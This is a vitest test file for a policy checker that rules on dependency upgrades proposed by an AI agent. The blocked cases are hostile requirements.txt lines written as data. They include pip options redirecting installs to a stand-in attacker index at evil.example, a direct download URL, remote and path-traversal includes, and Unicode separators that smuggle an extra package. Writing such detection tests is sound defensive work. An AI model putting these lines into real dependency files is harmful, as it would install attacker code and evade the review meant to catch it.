import { describe, expect, test } from 'vitest';

import { checkerFor } from '../../checker/checker.ts';
import type { ChangeInput } from '../../checker/observations-from-input.ts';
import type { AppliedLabel } from '../../model/observations.ts';
import { policyOf } from '../../testing/any-repository.ts';
import { AGENT, PULL_REQUEST, trustedLabel } from '../../testing/sample-approval.ts';
import { commitOf } from '../../testing/sample-change.ts';

const LABEL = 'approved-dependency-upgrade';
const SOURCE = 'backend/requirements.txt';
const LOCK = 'backend/requirements.lock';

/** What the policies of the first three documents say of agents and dependencies. */
const POLICY = {
  branches: { ai: { match: ['auto/*', 'auto/**'] } },
  labels: {
    [LABEL]: { grants: ['dependencies.backend'], applied_by: { permission: 'maintain' }, expires: 'on_push' },
  },
  change_scope: {
    branches: ['ai'],
    allow: ['/docs/*.md'],
    also_allow: [
      {
        dependencies: 'backend',
        unless_missing: { label: LABEL },
        branches: ['auto/dependency-upgrade-*'],
        branch_severity: 'warn',
      },
    ],
  },
  dependencies: [
    {
      id: 'backend',
      source: SOURCE,
      lock: LOCK,
      on_change: { require: { label: LABEL }, both_files: true, events: ['pull_request'] },
      check_on: ['pull_request', 'push:main'],
      branch: { suggest: 'auto/dependency-upgrade-YYYYMMDD-NNN', severity: 'info' },
    },
  ],
};

interface Upgrade {
  readonly source: string;
  readonly lock?: string | undefined;
  readonly more?: Readonly<Record<string, string>>;
  readonly labels?: readonly AppliedLabel[];
  readonly changes?: ChangeInput['changes'];
}

/** Both files hold the same here, so both float. */
const UNPINNED = ['dependencies/lock-unpinned', 'dependencies/requirements-pinned'];

/** What an agent proposes on a branch that is called as it should be. */
function verdictOn({ source, lock = source, more = {}, labels, changes = [SOURCE, LOCK] }: Upgrade) {
  const files = { [SOURCE]: source, ...(lock === '' ? {} : { [LOCK]: lock }), ...more };
  const branch = 'auto/dependency-upgrade-20261121-001';
  const report = checkerFor(policyOf(POLICY), undefined).checkChange(
    {
      changes,
      files: Object.entries(files).map(([path, text]) => ({ path, text })),
      labels: labels ?? [trustedLabel(LABEL)],
      branch,
      author: AGENT,
      commits: [commitOf()],
      pullRequest: { ...PULL_REQUEST, author: AGENT, branch },
    },
    { stage: 'ci' },
  );
  expect(report.crashed).toEqual([]);
  return { verdict: report.verdict, rules: [...new Set(report.findings.map(({ rule }) => rule))].toSorted() };
}

describe('an upgrade by an agent', () => {
  test('with the label of a person passes [attack deps-ok]', () => {
    expect(verdictOn({ source: 'flask==3.0.1\n' })).toEqual({ verdict: 'pass', rules: [] });
  });

  test.each<readonly [string, Upgrade, readonly string[]]>([
    ['deps-nolabel', { source: 'flask==3.0.1\n', labels: [] }, ['dependencies/label']],
    ['deps-desync', { source: 'flask==3.0.1\n', lock: 'flask==3.0.0\n' }, ['dependencies/lock-in-sync']],
    ['deps-unpinned', { source: 'flask>=3\n' }, UNPINNED],
    [
      'deps-nolock',
      { source: 'flask==3.0.0\n', lock: '', changes: [SOURCE, { path: LOCK, status: 'deleted' }] },
      ['dependencies/lock-missing'],
    ],
    [
      'deps-nolock, nothing else touched',
      { source: 'flask==3.0.0\n', lock: '', changes: [{ path: LOCK, status: 'deleted' }] },
      ['dependencies/both-files', 'dependencies/lock-missing'],
    ],
    ['deps-u2028', { source: 'flask==3.0.0\u2028evil>=0\n' }, [...UNPINNED, 'dependencies/suspicious-char']],
    ...['\u2029', '\u0085', '\v', '\f', '\u001c', '\u001d', '\u001e'].map(
      (separator): readonly [string, Upgrade, readonly string[]] => [
        `deps-u2028 with ${JSON.stringify(separator)}`,
        { source: `flask==3.0.0${separator}evil\n` },
        [...UNPINNED, 'dependencies/suspicious-char'],
      ],
    ),
    ...[
      '--extra-index https://evil.example',
      '--extra=https://evil.example',
      '--pypi-url https://evil.example',
      '-i https://evil.example',
      '-fhttps://evil.example',
      '--find https://evil.example',
      '--trusted evil.example',
      '--no-i',
      '--pre',
      '--require-hashes --ext https://evil.example',
    ].map((line): readonly [string, Upgrade, readonly string[]] => [
      `deps-abbrev: ${line}`,
      { source: `${line}\nflask==3.0.0\n` },
      ['dependencies/option'],
    ]),
    ...[
      '-r ../docs/extra.txt',
      '-r../docs/extra.txt',
      '--requirement=../docs/extra.txt',
      '--requirem ../docs/extra.txt',
    ].map((line): readonly [string, Upgrade, readonly string[]] => [
      `deps-include: ${line}`,
      { source: `flask==3.0.0\n${line}\n`, more: { 'docs/extra.txt': 'evil>=0\n' } },
      [
        'dependencies/include',
        ...(line.startsWith('--requirem ') ? ['dependencies/option'] : []),
        ...UNPINNED,
      ].toSorted(),
    ]),
    ...['-r https://evil.example/r.txt', '-r ../../evil.txt', '-r /tmp/evil.txt'].map(
      (line): readonly [string, Upgrade, readonly string[]] => [
        `deps-include: ${line}`,
        { source: `flask==3.0.0\n${line}\n` },
        ['dependencies/include'],
      ],
    ),
    ['deps-wild', { source: 'uvicorn==0.29.*\n' }, UNPINNED],
    ['a checkout', { source: '-e ../sdk\n' }, ['dependencies/editable']],
    ['a URL', { source: 'sdk @ https://evil.example/sdk.zip\n' }, ['dependencies/direct-url']],
    ['a path', { source: './sdk\n' }, ['dependencies/local-path']],
    ['what pip swallows', { source: '--prefer-binary evil\n' }, ['dependencies/syntax']],
    ['a variable', { source: '--no-binary ${WHAT}\nflask==3.0.0\n' }, ['dependencies/env-var']],
  ])('is blocked: %s', (_attack, upgrade, rules) => {
    expect(verdictOn(upgrade)).toEqual({ verdict: 'fail', rules });
  });
});

test('a file that requirements bring in is no way around the label', () => {
  const source = '-r ../docs/base.md\nflask==3.0.0\n';
  expect(
    verdictOn({ source, more: { 'docs/base.md': 'jinja2==3.1\n' }, changes: ['docs/base.md'], labels: [] }),
  ).toEqual({ verdict: 'fail', rules: ['dependencies/label'] });
});
